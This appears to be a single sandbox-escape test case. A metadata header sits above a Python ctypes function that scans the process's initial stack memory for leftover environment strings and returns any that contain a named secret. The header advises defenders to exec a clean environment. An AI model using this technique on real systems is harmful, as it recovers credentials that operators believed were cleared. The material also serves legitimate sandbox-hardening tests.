# title: Find the first environment on the stack
# tries: Reads the memory where the kernel put arguments and environment as the interpreter was started. They stay there when a forked child cleans up its variables.
# impact: HostLeak
# proof: secret
# host: run
# needs: environment
# stops: NOTHING clean state
# advice: Give the sandboxed interpreter a clean environment at its start by exec; what was there once can be found in memory.


def attempt(host):
    import ctypes

    libc = ctypes.CDLL(None)
    libc.getauxval.restype = ctypes.c_ulong
    libc.getauxval.argtypes = [ctypes.c_ulong]
    path_of_program = 31
    # The kernel puts arguments, environment and the program's path next to each other, in this order.
    first = ctypes.c_void_p.in_dll(libc, "program_invocation_name").value
    last = libc.getauxval(path_of_program)
    if first and first < last < first + (1 << 21):
        memory = ctypes.string_at(first, last - first).decode("utf-8", "replace")
        return "\n".join(text for text in memory.split("\0") if host["secret_variable"] in text)
